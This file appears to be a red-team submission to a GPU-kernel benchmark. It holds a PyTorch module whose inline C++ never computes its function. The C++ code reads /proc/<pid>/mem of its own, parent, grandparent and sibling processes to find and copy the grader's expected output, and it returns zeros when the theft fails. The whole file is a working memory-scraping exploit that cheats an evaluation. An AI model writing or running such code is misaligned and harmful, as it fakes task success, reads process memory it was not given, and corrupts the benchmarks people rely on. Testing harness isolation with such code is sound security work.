"""Exploit (native, reading process memory through `/proc/<pid>/mem`): steals the expected output.

The C++ forward computes nothing. It reads `/proc/<pid>/maps` of itself, its parent, its
grandparent and its siblings (any process of the same user could be added), and scans each one's
private writable memory ([heap] and anonymous mappings) through `pread` on `/proc/<pid>/mem`, at
the 64-byte alignment of PyTorch's CPU allocator, for the expected output: the first elements of
2x + 1 for this very input. Up to five hits are copied out and merged element by element by
majority (besides the live expected output the heap holds stale copies, freed and partly reused,
which the first elements alone do not tell apart); with no hit it returns zeros, so a pass proves
the theft. The region of the first hit is searched first on the next call.

In one process (the naive evaluator; today's harness, whose worker holds the reference outputs)
the evaluator's own memory holds the answer. Against a judge in a separate process the same scan
reaches it wherever the judge is readable: same user, dumpable, no seccomp filter on `open`."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>
#include <algorithm>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

namespace {

struct Region {
    uintptr_t start, end;
};

std::vector<Region> writable_private_regions(pid_t pid) {
    std::vector<Region> out;
    FILE* maps = std::fopen(("/proc/" + std::to_string(pid) + "/maps").c_str(), "r");
    if (maps == nullptr) return out;
    char line[4096];
    while (std::fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char perms[8] = {0}, path[4096] = {0};
        if (std::sscanf(line, "%lx-%lx %7s %*s %*s %*s %4095s", &start, &end, perms, path) < 3) continue;
        bool anonymous = path[0] == 0 || std::strcmp(path, "[heap]") == 0;
        if (perms[0] == 'r' && perms[1] == 'w' && perms[3] == 'p' && anonymous) out.push_back({start, end});
    }
    std::fclose(maps);
    return out;
}

pid_t parent_of(pid_t pid) {
    FILE* stat = std::fopen(("/proc/" + std::to_string(pid) + "/stat").c_str(), "r");
    if (stat == nullptr) return 0;
    char buf[1024] = {0};
    size_t n = std::fread(buf, 1, sizeof buf - 1, stat);
    std::fclose(stat);
    buf[n] = 0;
    const char* after = std::strrchr(buf, ')');
    int ppid = 0;
    if (after) std::sscanf(after + 2, "%*c %d", &ppid);
    return ppid;
}

// Itself first (one process: the naive evaluator, today's worker), then parent, grandparent, siblings.
std::vector<pid_t> targets() {
    pid_t self = getpid(), parent = getppid();
    std::vector<pid_t> out = {self, parent, parent_of(parent)};
    if (DIR* proc = opendir("/proc")) {
        while (dirent* e = readdir(proc)) {
            pid_t pid = std::atoi(e->d_name);
            if (pid > 0 && pid != self && parent_of(pid) == parent) out.push_back(pid);
        }
        closedir(proc);
    }
    return out;
}

struct Hint {
    pid_t pid = 0;
    Region region{0, 0};
} g_hint;

bool read_remote(int fd, uintptr_t addr, void* buf, size_t len) {
    return pread(fd, buf, len, static_cast<off_t>(addr)) == static_cast<ssize_t>(len);
}

bool matches(int fd, uintptr_t addr, const float* chunk, const float* want, int64_t k) {
    if (std::memcmp(chunk, want, sizeof(float)) != 0) return false;  // exact: the same fp32 arithmetic
    float head[8];
    if (!read_remote(fd, addr, head, k * sizeof(float))) return false;
    for (int64_t i = 0; i < k; ++i)
        if (std::fabs(head[i] - want[i]) > 1e-5f * (1.0f + std::fabs(want[i]))) return false;
    return true;
}

const size_t kMaxHits = 5;

// Every address in `region` holding the signature (not `own`), added to `hits`, up to kMaxHits.
void scan(int fd, Region region, const float* want, int64_t k, uintptr_t own, std::vector<uintptr_t>& hits) {
    const size_t chunk_bytes = 1 << 20;
    std::vector<float> chunk(chunk_bytes / sizeof(float));
    for (uintptr_t at = region.start; at < region.end && hits.size() < kMaxHits; at += chunk_bytes) {
        size_t len = std::min<size_t>(chunk_bytes, region.end - at);
        ssize_t got = pread(fd, chunk.data(), len, static_cast<off_t>(at));
        if (got <= 0) continue;
        for (size_t off = 0; off + sizeof(float) <= static_cast<size_t>(got) && hits.size() < kMaxHits; off += 64) {
            uintptr_t addr = at + off;
            if (addr != own && std::find(hits.begin(), hits.end(), addr) == hits.end() &&
                matches(fd, addr, chunk.data() + off / sizeof(float), want, k))
                hits.push_back(addr);
        }
    }
}

// Per element, the value most copies agree on. Besides the live expected output there are stale
// copies (freed memory, partly reused: a few wrong values each, in different places).
void consensus(const std::vector<std::vector<float>>& copies, float* out, size_t n) {
    for (size_t i = 0; i < n; ++i) {
        size_t best = 0;
        int best_votes = -1;
        for (size_t a = 0; a < copies.size(); ++a) {
            int votes = 0;
            for (const auto& other : copies) votes += std::memcmp(&copies[a][i], &other[i], sizeof(float)) == 0;
            if (votes > best_votes) best = a, best_votes = votes;
        }
        out[i] = copies[best][i];
    }
}

bool steal(pid_t pid, const float* want, int64_t k, const void* own, void* out, size_t nbytes) {
    int fd = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY);
    if (fd < 0) return false;
    std::vector<Region> regions = writable_private_regions(pid);
    if (g_hint.pid == pid) regions.insert(regions.begin(), g_hint.region);
    std::vector<uintptr_t> hits;
    Region first{0, 0};
    for (const Region& r : regions) {
        scan(fd, r, want, k, reinterpret_cast<uintptr_t>(own), hits);
        if (!hits.empty() && first.end == 0) first = r;
        if (hits.size() >= kMaxHits) break;
    }
    std::vector<std::vector<float>> copies;
    for (uintptr_t at : hits) {
        std::vector<float> copy(nbytes / sizeof(float));
        if (read_remote(fd, at, copy.data(), nbytes)) copies.push_back(std::move(copy));
    }
    close(fd);
    if (copies.empty()) return false;
    consensus(copies, static_cast<float*>(out), nbytes / sizeof(float));
    g_hint = {pid, first};
    return true;
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    x = x.contiguous();
    auto y = torch::empty_like(x);
    const float* in = x.data_ptr<float>();
    int64_t k = std::min<int64_t>(8, x.numel());
    float want[8];
    for (int64_t i = 0; i < k; ++i) want[i] = 2.0f * in[i] + 1.0f;  // the signature, not the answer
    bool stolen = false;
    std::vector<pid_t> pids = targets();
    if (g_hint.pid != 0) pids.insert(pids.begin(), g_hint.pid);
    for (pid_t pid : pids)
        if ((stolen = steal(pid, want, k, y.data_ptr(), y.data_ptr(), x.nbytes()))) break;
    if (!stolen) std::memset(y.data_ptr(), 0, x.nbytes());  // no theft, no answer
    return y;
}
"""

ext = load_inline(name="rt_proc_mem_scan", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
